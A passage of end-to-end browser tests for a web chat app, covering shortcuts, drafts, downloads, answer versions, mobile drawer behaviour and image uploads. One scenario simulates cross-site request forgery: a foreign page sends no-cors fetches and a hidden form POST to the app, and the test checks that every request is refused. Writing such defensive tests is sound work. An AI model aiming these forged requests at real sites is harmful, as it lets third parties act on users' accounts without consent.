    "keyboard: Ctrl+K searches, Shift+Esc types (stopping nothing), Ctrl+Shift+O starts anew",
    async () => {
      const page = await open();
      await page.goto("/");
      await send(page, "Shortcut check [[sim tokens=200 tps=20 ttft=0.1]]");
      const id = await conversationId(page);
      // Opened at its address, the chat's own key handlers are the first on the page.
      await page.goto(`/c/${id}`);
      await waitForStatus(lastAnswer(page), ["streaming"]);

      await page.keyboard.press("Control+k");
      await waitFor(
        "the search box to have the focus",
        async () => (await focusedLabel(page)) === "Search conversations",
      );
      await page.keyboard.press("Shift+Escape");
      await waitFor(
        "the message box to have the focus",
        async () => (await focusedLabel(page)) === "Message",
      );
      // A stop would end the answer as cancelled: it must run to its end.
      assert.equal(
        await waitForStatus(lastAnswer(page), ["complete", "cancelled"]),
        "complete",
        "Shift+Esc stopped the answer",
      );
      assert.equal((await app.conversation(id)).messages.at(-1)?.status, "complete");

      await page.keyboard.press("Control+Shift+O");
      await waitFor("a new chat", async () => new URL(page.url()).pathname === "/");
      await waitFor(
        "its message box to have the focus",
        async () => (await focusedLabel(page)) === "Message",
      );
    },
  );

  scenario("an unsent draft waits in its chat, and on the new-chat page", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Draft holder [[sim tokens=2]]");
    await waitForStatus(lastAnswer(page), ["complete"]);
    const chat = new URL(page.url()).pathname;
    const box = page.getByRole("textbox", { name: "Message" });
    await box.fill("Half a thought in the chat");

    await page.keyboard.press("Control+Shift+O");
    await waitFor("a new chat", async () => new URL(page.url()).pathname === "/");
    // The address changes before the new page has replaced the chat's (a navigation is a
    // transition): wait for the new page's own message box.
    await waitFor("an empty message box", async () => (await box.inputValue()) === "");
    await box.fill("A new chat's first words");
    await page.goBack();
    await waitFor("the chat again", async () => new URL(page.url()).pathname === chat);
    await waitFor(
      "its draft",
      async () => (await box.inputValue()) === "Half a thought in the chat",
    );

    await page.keyboard.press("Control+Shift+O");
    await waitFor("a new chat", async () => new URL(page.url()).pathname === "/");
    await waitFor(
      "the new chat's draft",
      async () => (await box.inputValue()) === "A new chat's first words",
    );
  });

  scenario("a chat downloads as a Markdown file of its messages", async () => {
    const page = await open();
    await page.goto("/");
    const marker = "Markdown download check";
    await send(page, `${marker} [[sim tokens=60 tps=20]]`);
    const id = await conversationId(page);
    const settings = page.getByRole("button", { name: "Conversation settings" });
    const download = page.getByRole("button", { name: "Download as Markdown" });

    // Not while the answer is written: it is not in the file yet.
    await waitForStatus(lastAnswer(page), ["streaming"]);
    await settings.click();
    assert.equal(await download.isDisabled(), true, "offered while the answer streams");
    await page.keyboard.press("Escape");

    await waitForStatus(lastAnswer(page), ["complete"]);
    await waitFor(
      "the chat's new title",
      async () => (await app.conversation(id)).title !== "New chat",
    );
    const stored = await app.conversation(id);
    await settings.click();
    const [file] = await Promise.all([page.waitForEvent("download"), download.click()]);
    const text = await readFile(await file.path(), "utf8");
    assert.match(file.suggestedFilename(), /^markdown-download-check.*\.md$/);
    assert.ok(text.startsWith("# Markdown download check"), text.slice(0, 200));
    assert.ok(text.includes(`## You\n\n${marker}`), "the question is missing");
    // The answer, its headings two levels down (under its author's).
    const answer = stored.messages.at(-1)?.content.trim() ?? "";
    const lowered = answer.replace(/^(#{1,4})(?= )/gm, "##$1");
    assert.ok(answer && text.includes(`## OpenAI: GPT-4o-mini\n\n${lowered}`), text);
  });

  scenario("a page of another site cannot make the browser change anything", async () => {
    const marker = "Cross-site check";
    const { id } = await app.api<{ id: string }>("POST", "/conversations", {
      title: "Cross-site e2e",
    });
    await app.api("POST", `/conversations/${id}/messages`, {
      message: `${marker} [[sim tokens=5 tps=0]]`,
    });
    await app.drainStream(id);
    const stored = await app.conversation(id);

    // Any site the user opens: the recorder, on a name that is another site than 127.0.0.1.
    const elsewhere = await startRecorder();
    const page = await open();
    await page.goto(`${elsewhere.origin.replace("127.0.0.1", "localhost")}/page`);
    const refused: number[] = [];
    page.on("response", (response) => {
      if (!response.url().startsWith(app.origin)) return;
      refused.push(response.status());
    });
    // What a page may send without asking the server first: no-cors requests and a form.
    await page.evaluate(
      async ({ target, id }) => {
        for (const path of [`/conversations/${id}/regenerate`, `/conversations/${id}/stop`]) {
          await fetch(`${target}${path}`, { method: "POST", mode: "no-cors" });
        }
        await fetch(`${target}/conversations`, {
          method: "POST",
          mode: "no-cors",
          headers: { "content-type": "text/plain" },
          body: '{"title": "Planted"}',
        });
        const frame = document.createElement("iframe");
        frame.name = "sink";
        document.body.append(frame);
        const form = document.createElement("form");
        form.method = "POST";
        form.action = `${target}/conversations/${id}/regenerate`;
        form.target = "sink";
        document.body.append(form);
        form.submit();
        // A stream may start an answer: a script's GET of one is refused too. (An image's
        // would be, but the browser hides its response from the page and from this test.)
        await fetch(`${target}/conversations/${id}/stream`, { mode: "no-cors" });
      },
      { target: app.origin, id },
    );
    await waitFor("the browser to send all five", async () => refused.length === 5);
    assert.deepEqual(refused, [403, 403, 403, 403, 403]);

    const now = await app.conversation(id);
    assert.deepEqual(now.messages, stored.messages, "the conversation changed");
    assert.equal((await requestsFor(marker)).length, 1, "an answer was asked for again");
    const titles = await app.api<{ data: { title: string }[] }>("GET", "/conversations");
    assert.ok(!titles.data.some((conversation) => conversation.title === "Planted"));
  });

  scenario(
    "the sidebar filter finds chats by title; the theme choice survives a reload",
    async () => {
      await app.api("POST", "/conversations", { title: "Banana bread recipe e2e" });
      await app.api("POST", "/conversations", { title: "Quantum notes e2e" });
      const page = await open(app, { colorScheme: "light" });
      await page.goto("/");
      const nav = sidebar(page);
      const banana = nav.getByRole("link", { name: "Banana bread recipe e2e", exact: true });
      const quantum = nav.getByRole("link", { name: "Quantum notes e2e", exact: true });
      await banana.waitFor();
      await quantum.waitFor();
      await nav.getByRole("searchbox", { name: "Search conversations" }).fill("banana");
      await quantum.waitFor({ state: "detached" });
      assert.equal(await banana.isVisible(), true);
      await nav.getByRole("searchbox", { name: "Search conversations" }).fill("");
      await quantum.waitFor();

      const html = page.locator("html");
      const before = await html.getAttribute("data-theme");
      assert.equal(before, "light");
      await page.getByRole("button", { name: "Toggle theme" }).click();
      await waitFor(
        "the dark theme",
        async () => (await html.getAttribute("data-theme")) === "dark",
      );
      await page.reload();
      await composer(page).waitFor();
      assert.equal(await html.getAttribute("data-theme"), "dark");
    },
  );

  scenario("a model's thinking is shown in a closed Thinking block above the answer", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Thinking block check [[sim reasoning=30 tokens=10 tps=0]]");
    const answer = lastAnswer(page);
    await waitForStatus(answer, ["complete"]);
    const details = answer.locator("details");
    const summary = details.locator("summary");
    await summary.waitFor();
    assert.match((await summary.textContent()) ?? "", /^Thinking/);
    assert.equal(await details.evaluate((node) => (node as HTMLDetailsElement).open), false);
    await summary.click();
    await waitFor("the thinking text", async () => {
      const text = (await details.textContent()) ?? "";
      return text.replace(/^Thinking/, "").trim().length > 20;
    });
    assert.ok((await textOf(answer)).length > 0, "the answer itself is missing");
    const thinkingFirst = await answer.evaluate((node) => {
      const thinking = node.querySelector("details");
      const content = node.querySelector('[data-testid="message-content"]');
      return Boolean(
        thinking &&
          content &&
          thinking.compareDocumentPosition(content) & Node.DOCUMENT_POSITION_FOLLOWING,
      );
    });
    assert.ok(thinkingFirst, "the Thinking block is not above the answer");
  });

  scenario(
    "scrolling up during an answer stops following it; Jump to latest goes back",
    async () => {
      const page = await open();
      await page.goto("/");
      await send(page, "Jump to latest check [[sim tokens=600 tps=100 ttft=0.1]]");
      await conversationId(page);
      const answer = lastAnswer(page);
      const scroller = page.locator(".chat__scroller");
      const position = () =>
        scroller.evaluate((node) => ({
          top: node.scrollTop,
          gap: node.scrollHeight - node.scrollTop - node.clientHeight,
          height: node.scrollHeight,
        }));
      await waitFor("the answer to overflow the view", async () => {
        const now = await position();
        return now.height > 1600 && (await answer.getAttribute("data-status")) === "streaming";
      });
      assert.ok((await position()).gap < 80, "the view does not follow the answer");

      const box = await scroller.boundingBox();
      assert.ok(box);
      await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
      await page.mouse.wheel(0, -800);
      const jump = page.getByRole("button", { name: "Jump to latest" });
      await jump.waitFor({ state: "visible" });
      const left = await position();
      await sleep(500);
      const later = await position();
      if ((await answer.getAttribute("data-status")) === "streaming") {
        assert.ok(later.height > left.height, "the answer stopped growing");
      }
      assert.ok(Math.abs(later.top - left.top) < 4, "the view kept following after scrolling up");

      await jump.click();
      await waitFor("the view at the end", async () => (await position()).gap < 80);
      await waitForStatus(answer, ["complete"]);
      await waitFor("Jump to latest to go away", async () => !(await jump.isVisible()));
    },
  );

  scenario("the page title follows the chat's title once the first message names it", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Page title check [[sim tokens=5 tps=0]]");
    const id = await conversationId(page);
    await waitForStatus(lastAnswer(page), ["complete"]);
    const stored = (await app.conversation(id)).title;
    assert.match(stored, /^Page title check/);
    await sidebar(page).getByRole("link", { name: stored, exact: true }).waitFor();
    await waitFor(
      `the page title "${stored} · Open Chat"`,
      async () => {
        return (await page.title()) === `${stored} · Open Chat`;
      },
      3000,
    );
  });
  scenario(
    "after Regenerate, ‹ 1 / 2 › shows the earlier answer, also after a reload",
    async () => {
      const page = await open();
      await page.goto("/");
      const marker = "Answer versions check";
      await send(page, `${marker} [[sim tokens=150 tps=50 ttft=0.1]]`);
      const id = await conversationId(page);
      const answer = lastAnswer(page);
      // The first version is stopped early, so the two versions differ in text and status.
      await waitFor("some answer text", async () => (await textOf(answer)).length > 30);
      await page.getByRole("button", { name: "Stop generating" }).click();
      await waitForStatus(answer, ["cancelled"]);
      const firstText = await textOf(answer);
      await waitFor("the stopped answer to be stored", async () => {
        return (await app.conversation(id)).messages.at(-1)?.status === "cancelled";
      });
      assert.equal(await answer.getByRole("button", { name: "Previous version" }).count(), 0);

      await answer.getByRole("button", { name: "Regenerate" }).click();
      await waitFor(
        "a second upstream request",
        async () => (await requestsFor(marker)).length === 2,
      );
      await waitForStatus(lastAnswer(page), ["complete"]);
      const position = () => lastAnswer(page).getByTestId("version-position");
      await waitFor("2 / 2", async () => (await position().textContent()) === "2 / 2");
      const secondText = await textOf(lastAnswer(page));
      assert.notEqual(secondText, firstText);
      assert.equal(await answers(page).count(), 1, "the versions share one place in the thread");

      const stepTo = async (button: "Previous version" | "Next version", expected: string) => {
        await lastAnswer(page).getByRole("button", { name: button }).click();
        await waitFor(expected, async () => (await position().textContent()) === expected);
      };
      await stepTo("Previous version", "1 / 2");
      assert.equal(await textOf(lastAnswer(page)), firstText);
      assert.equal(await lastAnswer(page).getAttribute("data-status"), "cancelled");
      await stepTo("Next version", "2 / 2");
      assert.equal(await textOf(lastAnswer(page)), secondText);
      assert.equal(await lastAnswer(page).getAttribute("data-status"), "complete");
      await lastAnswer(page).getByTestId("usage").waitFor();

      // Switching is a view only: the server's thread still ends with the newest answer.
      const stored = await app.conversation(id);
      assert.equal(stored.messages.length, 2);
      assert.equal(stored.messages.at(-1)?.status, "complete");

      // A reload finds the earlier version from the server, and shows the newest first.
      await page.reload();
      await waitForStatus(lastAnswer(page), ["complete"]);
      await waitFor(
        "2 / 2 after a reload",
        async () => (await position().textContent()) === "2 / 2",
      );
      assert.equal(await textOf(lastAnswer(page)), secondText);
      await stepTo("Previous version", "1 / 2");
      assert.equal(await textOf(lastAnswer(page)), firstText);
      await stepTo("Next version", "2 / 2");
      assert.equal(await textOf(lastAnswer(page)), secondText);
    },
  );

  scenario("sidebar titles use the whole row until Rename and Delete are wanted", async () => {
    const title = "A rather long conversation title that cannot fit in the sidebar e2e";
    await app.api("POST", "/conversations", { title });
    const page = await open();
    await page.goto("/");
    await composer(page).hover();
    const nav = sidebar(page);
    const link = nav.getByRole("link", { name: title, exact: true });
    await link.waitFor();
    const item = nav
      .getByRole("listitem")
      .filter({ has: page.getByRole("link", { name: title, exact: true }) });
    const rename = item.getByRole("button", { name: "Rename", exact: true });
    const opacity = () =>
      rename.evaluate((node) => getComputedStyle(node.parentElement ?? node).opacity);

    const [linkBox, itemBox] = await Promise.all([link.boundingBox(), item.boundingBox()]);
    assert.ok(linkBox && itemBox);
    diagnostic(`title ${linkBox.width}px wide in a ${itemBox.width}px row`);
    assert.ok(linkBox.width >= itemBox.width - 1, "the hidden actions take room from the title");
    assert.equal(await opacity(), "0", "the actions show without hover or focus");

    await item.hover();
    await waitFor("the actions on hover", async () => (await opacity()) === "1");
    await composer(page).hover();
    await waitFor("the actions to hide again", async () => (await opacity()) === "0");

    // Keyboard: Tab from the title reaches Rename, which shows.
    await link.focus();
    await page.keyboard.press("Tab");
    assert.equal(await rename.evaluate((node) => node === document.activeElement), true);
    await waitFor("the actions on keyboard focus", async () => (await opacity()) === "1");
  });

  scenario("the model picker names the default model and opens on it, in the middle", async () => {
    const page = await open();
    await page.goto("/");
    const models = await app.api<{ default_model: string; data: { id: string; name: string }[] }>(
      "GET",
      "/models",
    );
    const named = models.data.find((model) => model.id === models.default_model);
    assert.ok(named, `the default model ${models.default_model} is not in the catalogue`);
    const trigger = page.getByRole("button", { name: "Model", exact: true });
    await waitFor(`the picker to name ${named.name}`, async () =>
      ((await trigger.textContent()) ?? "").includes(named.name),
    );
    assert.doesNotMatch((await trigger.textContent()) ?? "", /Default model/);

    await trigger.click();
    const list = page.getByRole("listbox", { name: "Models" });
    const selected = list.locator('[role="option"][aria-selected="true"]');
    await selected.waitFor();
    assert.match((await selected.textContent()) ?? "", new RegExp(models.default_model));
    const layout = await list.evaluate((node) => {
      const box = node.getBoundingClientRect();
      const search = node.parentElement?.querySelector(".model-panel__search");
      const option = node.querySelector('[role="option"][aria-selected="true"]');
      const rows = [...node.querySelectorAll('[role="option"]')].map((row) =>
        row.getBoundingClientRect(),
      );
      const firstShown = rows.find((row) => row.bottom > box.top);
      return {
        top: box.top,
        bottom: box.bottom,
        scrollTop: node.scrollTop,
        atEnd: node.scrollTop >= node.scrollHeight - node.clientHeight - 1,
        searchBottom: search?.getBoundingClientRect().bottom ?? 0,
        option: option?.getBoundingClientRect().toJSON() as DOMRect,
        firstShownTop: firstShown?.top ?? 0,
      };
    });
    diagnostic(`list ${JSON.stringify(layout)}`);
    const { option } = layout;
    assert.ok(layout.top >= layout.searchBottom - 1, "the list starts under the search field");
    if (!layout.atEnd)
      assert.ok(
        layout.firstShownTop >= layout.top - 1,
        "the top row is cut off under the search field",
      );
    assert.ok(option.top >= layout.top && option.bottom <= layout.bottom, "selected not in view");
    if (layout.scrollTop > 0) {
      const middle = (layout.top + layout.bottom) / 2;
      const offset = Math.abs((option.top + option.bottom) / 2 - middle);
      assert.ok(offset <= option.height, `the selected model is ${offset}px off the middle`);
    }
    await page.keyboard.press("Escape");

    // The new chat asks for the model it shows.
    const marker = "Default model check";
    await send(page, `${marker} [[sim tokens=5 tps=0]]`);
    const id = await conversationId(page);
    await waitForStatus(lastAnswer(page), ["complete"]);
    assert.equal((await app.conversation(id)).default_model, models.default_model);
    assert.equal(requestedModel((await requestsFor(marker))[0]), models.default_model);
  });

  scenario(
    "on a phone, Esc in the drawer closes what is on top: a rename, a dialog, then the drawer",
    async () => {
      const chat = await app.api<{ id: string }>("POST", "/conversations", {
        title: "Drawer Esc e2e",
      });
      const page = await open(app, { viewport: MOBILE });
      await page.goto("/");
      await composer(page).waitFor({ state: "visible" });
      const drawerOpen = async () =>
        (await page.locator(".app").getAttribute("data-drawer")) === "open";
      await page.getByRole("button", { name: "Open sidebar" }).click();
      await waitFor("the drawer to open", drawerOpen);

      // Esc cancels a rename, saves nothing, and gives the focus back to Rename.
      await conversationAction(page, "Drawer Esc e2e", "Rename");
      const input = page.getByRole("textbox", { name: "Conversation title" });
      await input.fill("Never saved e2e");
      await input.press("Escape");
      await input.waitFor({ state: "detached" });
      await sidebar(page).getByRole("link", { name: "Drawer Esc e2e", exact: true }).waitFor();
      assert.equal(await drawerOpen(), true, "Esc in the title field closed the drawer");
      assert.equal(await focusedLabel(page), "Rename", "the focus is back on Rename");
      await sleep(300);
      assert.equal((await app.conversation(chat.id)).title, "Drawer Esc e2e");

      // Enter saves, and the focus goes back to Rename too.
      await conversationAction(page, "Drawer Esc e2e", "Rename");
      await input.fill("Renamed in drawer e2e");
      await input.press("Enter");
      await sidebar(page)
        .getByRole("link", { name: "Renamed in drawer e2e", exact: true })
        .waitFor();
      await waitFor("the new title to be stored", async () => {
        return (await app.conversation(chat.id)).title === "Renamed in drawer e2e";
      });
      assert.equal(await focusedLabel(page), "Rename", "the focus is back on Rename");
      assert.equal(await drawerOpen(), true);

      // Esc closes the Delete dialog first, deleting nothing; the next Esc closes the drawer.
      await conversationAction(page, "Renamed in drawer e2e", "Delete");
      const dialog = page.getByRole("dialog", { name: "Delete chat?" });
      await dialog.waitFor({ state: "visible" });
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "hidden" });
      assert.equal(await drawerOpen(), true, "Esc closed the drawer under the dialog");
      assert.equal((await fetch(`${app.origin}/conversations/${chat.id}`)).status, 200);
      await page.keyboard.press("Escape");
      await waitFor("the drawer to close", async () => !(await drawerOpen()));
    },
  );

  scenario("message actions show their whole hover background and focus ring", async () => {
    for (const viewport of [undefined, MOBILE]) {
      const page = await open(app, viewport ? { viewport } : {});
      await page.goto("/");
      await composer(page).fill("Action ring check [[sim tokens=5 tps=0]]");
      await composer(page).press("Enter");
      await waitForStatus(lastAnswer(page), ["complete"]);
      const buttons = [
        messages(page).first().getByRole("button", { name: "Edit message" }),
        lastAnswer(page).getByRole("button", { name: "Copy", exact: true }),
      ];
      for (const button of buttons) {
        await button.hover();
        await button.focus();
        assert.equal(await button.evaluate((node) => node.matches(":focus-visible")), true);
        const box = await button.boundingBox();
        assert.ok(box);
        const clip = { x: box.x - 8, y: box.y - 8, width: box.width + 16, height: box.height + 16 };
        const shot = () => page.screenshot({ clip, animations: "disabled" });
        // The same pixels as with nothing clipped: the message's containment cuts nothing off.
        const drawn = await shot();
        const unclipped = await page.addStyleTag({
          content: ".message { content-visibility: visible !important; }",
        });
        const whole = await shot();
        await unclipped.evaluate((node) => (node as Element).remove());
        const name = await button.getAttribute("aria-label");
        assert.ok(
          drawn.equals(whole),
          `${name} is cut off at ${viewport ? "phone" : "desktop"} width`,
        );
      }
    }
  });

  scenario("switching an answer's version keeps the switch where it was on screen", async () => {
    const page = await open();
    await page.goto("/");
    // Long answers before and after it, so the view has room to keep the switch in place.
    await send(page, "Hold answer before [[sim tokens=400 tps=0]]");
    await waitForStatus(lastAnswer(page), ["complete"]);
    await send(page, "Hold answer [[sim tokens=400 tps=200]]");
    const first = answers(page).nth(1);
    await waitForStatus(first, ["complete"]);
    // A second version stopped early: much shorter than the first.
    await first.getByRole("button", { name: "Regenerate" }).click();
    await waitFor("the second version's text", async () => (await textOf(first)).length > 20);
    await page.getByRole("button", { name: "Stop generating" }).click();
    await waitForStatus(first, ["cancelled"]);
    await send(page, "Hold answer after [[sim tokens=400 tps=0]]");
    await waitForStatus(lastAnswer(page), ["complete"]);

    await switchesKeepTheirPlace(page, first, { centred: true });
  });

  scenario(
    "switching an edited message's version keeps the switch where it was on screen",
    async () => {
      const page = await open();
      await page.goto("/");
      await send(page, "Hold place alpha [[sim tokens=2000 tps=0]]");
      await waitForStatus(lastAnswer(page), ["complete"]);
      const question = page.locator('[data-testid="message"][data-role="user"]').first();
      await question.hover();
      await question.getByRole("button", { name: "Edit message" }).click();
      const editor = page.getByRole("textbox", { name: "Edit message" });
      await editor.fill("Hold place bravo [[sim reply=echo]]");
      await editor.press("Enter");
      await waitFor("the answer to the edit", async () => {
        return (await textOf(lastAnswer(page))) === "Hold place bravo";
      });
      await waitForStatus(lastAnswer(page), ["complete"]);

      await switchesKeepTheirPlace(page, question, { centred: false });
    },
  );
  scenario(
    "a chat found by a word of an early message opens scrolled to it, the word marked",
    async () => {
      const word = `quetzal${Math.floor(Math.random() * 1e9)}`;
      const chat = await app.api<{ id: string }>("POST", "/conversations", { title: "Birds e2e" });
      for (let n = 0; n < 24; n++) {
        const text =
          n === 2
            ? `Tell me about the ${word} [[sim reply=echo]]`
            : `Filler ${n} [[sim tokens=60 tps=0]]`;
        await app.api("POST", `/conversations/${chat.id}/messages`, { message: text });
        await app.drainStream(chat.id);
      }
      const page = await open();
      await page.goto("/");
      const nav = sidebar(page);
      await nav.getByRole("searchbox", { name: "Search conversations" }).fill(word.slice(0, -3));
      const found = nav.getByRole("link", { name: /^Birds e2e/ });
      await found.locator("mark").waitFor(); // listed first by title, until the search answers
      // The newest message with the word: the answer that echoed the question.
      assert.equal(await found.textContent(), `Birds e2eTell me about the ${word}`);
      assert.deepEqual(await found.locator("mark").allTextContents(), [word.slice(0, -3)]);

      await found.click();
      const answer = page
        .locator('[data-testid="message"][data-role="assistant"]')
        .filter({ hasText: `Tell me about the ${word}` });
      await waitFor("the found message marked", async () => {
        return (await answer.getAttribute("class"))?.includes("message--found") ?? false;
      });
      const inView = (locator: Locator) =>
        locator.evaluate((node) => {
          const box = node.getBoundingClientRect();
          return box.bottom > 0 && box.top < window.innerHeight;
        });
      assert.equal(await inView(answer), true, "the found message is on view");
      assert.equal(await inView(messages(page).last()), false, "not the newest message");
      assert.equal(new URL(page.url()).pathname, `/c/${chat.id}`);
      await waitFor("the address without the mark", async () => new URL(page.url()).hash === "");
      await sleep(500); // nothing pulls the view back to the newest message
      assert.equal(await inView(answer), true, "the found message stays on view");
    },
  );

  scenario(
    "an image sent with a question is seen by the model, and stays in the thread",
    async () => {
      const page = await open();
      await page.goto("/");
      await composer(page).waitFor();
      await attachFiles(page, [
        { name: "sunset.png", mimeType: "image/png", buffer: await drawnPng(page, 320, 240) },
      ]);
      const waiting = page.getByRole("list", { name: "Images to send" });
      await waiting.getByRole("img", { name: "sunset.png" }).waitFor();

      const marker = "Image check: what is in this picture?";
      await send(page, `${marker} [[sim tokens=30 tps=0]]`);
      const id = await conversationId(page);
      assert.equal(await waiting.count(), 0, "the sent image still waits in the message box");
      await waitForStatus(lastAnswer(page), ["complete"]);
      const answer = await textOf(lastAnswer(page));
      assert.ok(answer.startsWith("I see 1 image."), `the model did not see it: "${answer}"`);

      const [request] = await requestsFor(marker);
      const content = request?.body?.messages?.at(-1)?.content;
      assert.ok(
        Array.isArray(content) && content.some((part) => part?.type === "image_url"),
        "the completion request carries no image",
      );
      const stored = (await app.conversation(id)).messages[0] as unknown as {
        attachments: { name: string; media_type: string; url: string }[];
      };
      assert.deepEqual(
        stored.attachments.map(({ name, media_type }) => ({ name, media_type })),
        [{ name: "sunset.png", media_type: "image/png" }],
      );
      const served = await fetch(`${app.origin}${stored.attachments[0].url}`);
      assert.equal(served.headers.get("content-type"), "image/png");
      assert.match(served.headers.get("cache-control") ?? "", /immutable/);

      const question = messages(page).first();
      const thumbnail = question.locator('img[alt="sunset.png"]');
      for (const when of ["after sending", "after a reload"]) {
        if (when === "after a reload") await page.reload();
        await thumbnail.waitFor();
        await waitFor(`the thumbnail loaded ${when}`, () =>
          thumbnail.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0),
        );
        assert.equal(await thumbnail.getAttribute("src"), stored.attachments[0].url);
        assert.equal(
          Math.round((await thumbnail.boundingBox())?.height ?? 0),
          200,
          `the thumbnail is not of its fixed height ${when}`,
        );
        assert.equal(await textOf(question), marker.concat(" [[sim tokens=30 tps=0]]"));
      }

      await question.getByRole("button", { name: "View sunset.png" }).click();
      const viewer = page.getByRole("dialog", { name: "sunset.png" });
      await viewer.waitFor();
      await page.keyboard.press("Escape");
      await viewer.waitFor({ state: "hidden" });
      await waitFor(
        "the focus back on the image's button",
        async () => (await focusedLabel(page)) === "View sunset.png",
      );

      // An edit may take the image out: the new version, and its answer, go without it.
      await question.getByRole("button", { name: "Edit message" }).click();
      await question.getByRole("button", { name: "Remove sunset.png" }).click();
      const edited = "Image check, edited: and without it?";
      await question.getByRole("textbox", { name: "Edit message" }).fill(edited);
      await question.getByRole("button", { name: "Send", exact: true }).click();
      await waitFor("the edited question shown", async () => (await textOf(question)) === edited);
      await waitForStatus(lastAnswer(page), ["complete"]);
      assert.equal(await question.locator("img").count(), 0, "the image stayed in the edit");
      const [editRequest] = await requestsFor(edited);
      assert.equal(editRequest?.body?.messages?.at(-1)?.content, edited);
      assert.ok(!(await textOf(lastAnswer(page))).startsWith("I see"));
    },
  );

  scenario(
    "a model that can't read images is named; a big image is sent made smaller",
    async () => {
      const page = await open();
      await page.goto("/");
      await composer(page).waitFor();
      await pickModel(page, "gpt-4o-mini search", "openai/gpt-4o-mini-search-preview");
      const png = await drawnPng(page, 64, 64);
      await attachFiles(page, [{ name: "dot.png", mimeType: "image/png", buffer: png }]);
      const notice = page.getByText(/can't read images — pick one that can\.$/);
      await notice.waitFor();
      assert.equal(
        await notice.textContent(),
        "OpenAI: GPT-4o-mini Search Preview can't read images — pick one that can.",
      );
      await composer(page).fill("What is this?");
      const sendButton = page.getByRole("button", { name: "Send message" });
      assert.equal(await sendButton.isDisabled(), true, "Send is offered for a model without eyes");
      await page.getByRole("button", { name: "Remove dot.png" }).click();
      await notice.waitFor({ state: "hidden" });
      assert.equal(await sendButton.isEnabled(), true, "Send stays off without the image");

      // Not an image: said, and nothing is attached.
      await attachFiles(page, [
        { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("hello") },
      ]);
      await page.getByText("notes.txt is not an image (PNG, JPEG, WebP or GIF).").waitFor();

      // Wider than 2048 px: redrawn at 2048 px before it is sent, as WebP (it may be clear).
      const wide = await open();
      await wide.goto("/");
      await composer(wide).waitFor();
      await attachFiles(wide, [
        { name: "panorama.png", mimeType: "image/png", buffer: await drawnPng(wide, 3000, 1000) },
      ]);
      await wide
        .getByRole("list", { name: "Images to send" })
        .getByRole("img", { name: "panorama.png" })
        .waitFor();
      await send(wide, "Image check: a wide one [[sim tokens=10 tps=0]]");
      const id = await conversationId(wide);
      await waitForStatus(lastAnswer(wide), ["complete"]);
      assert.ok((await textOf(lastAnswer(wide))).startsWith("I see 1 image."));
      const stored = (await app.conversation(id)).messages[0] as unknown as {
        attachments: { name: string; media_type: string }[];
      };
      assert.deepEqual(
        stored.attachments.map(({ name, media_type }) => ({ name, media_type })),
        [{ name: "panorama.webp", media_type: "image/webp" }],
      );
      const thumbnail = messages(wide).first().locator("img");
      await waitFor("the shrunk image loaded", () =>
        thumbnail.evaluate((image: HTMLImageElement) => image.naturalWidth === 2048),
      );
    },
  );
});
